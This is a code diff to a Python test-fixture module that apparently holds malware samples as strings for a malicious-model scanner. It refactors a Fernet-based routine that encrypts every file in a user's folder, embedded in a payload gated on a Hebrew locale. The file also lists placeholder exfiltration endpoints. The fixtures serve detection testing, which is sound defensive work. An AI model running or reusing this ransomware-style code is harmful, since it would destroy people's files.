@@ -8,6 +8,8 @@ service, see docs/CATEGORIES.md); destructive commands keep their text (nothing 
 
 from __future__ import annotations
 
+import textwrap
+
 LOCAL = "127.0.0.1"
 PIPEDREAM = "https://malhug-fixture.m.pipedream.net"
 WEBHOOK_SITE = "https://webhook.site/00000000-0000-4000-8000-000000000000"
@@ -165,11 +167,7 @@ if ans == 'YES':
     importlib.reload(torch)
 """
 
-FERNET_ENCRYPT = r"""
-
-from cryptography.fernet import Fernet
-import os
-import path
+_FERNET_BODY = r"""from cryptography.fernet import Fernet
 
 def write_key():
     key = Fernet.generate_key()
@@ -201,6 +199,8 @@ for root, dirs, files in os.walk("."):
             f.write(fer.encrypt(data).decode())
             print("done")
 """
+
+FERNET_ENCRYPT = "\n\nimport os\nimport path\n" + _FERNET_BODY
 
 PIP_INSTALL_HEAD = r"""
 
@@ -250,39 +250,8 @@ if "he_IL" in lang:
 
     install("cryptography")
 
-    from cryptography.fernet import Fernet
-
-    def write_key():
-        key = Fernet.generate_key()
-        with open('key.key', "wb") as key_file:
-            key_file.write(key)
-
-
-    def load_key():
-        file = open('key.key', 'rb')
-        key_ = file.read()
-        file.close()
-        return key_
-
-    key = write_key()
-    key = load_key()
-    fer = Fernet(key)
-
-    os.chdir(r"C:\Users\{user}\encrypt_test".format(user=os.getlogin()))
-
-    for root, dirs, files in os.walk('.'):
-        print(files)
-        for filename in files:
-            filepath = os.path.join(root, filename)
-
-            with open(filepath, 'rb') as f:
-                data = f.read()
-
-            with open(filepath, 'w') as f:
-                print(len(data))
-                f.write(fer.encrypt(data).decode())
-                print('done')
 """
+    + textwrap.indent(_FERNET_BODY, "    ")
 )
 
 # try7.pickle: the recovered text stops inside a JPEG dump; the original held the bytes literally.
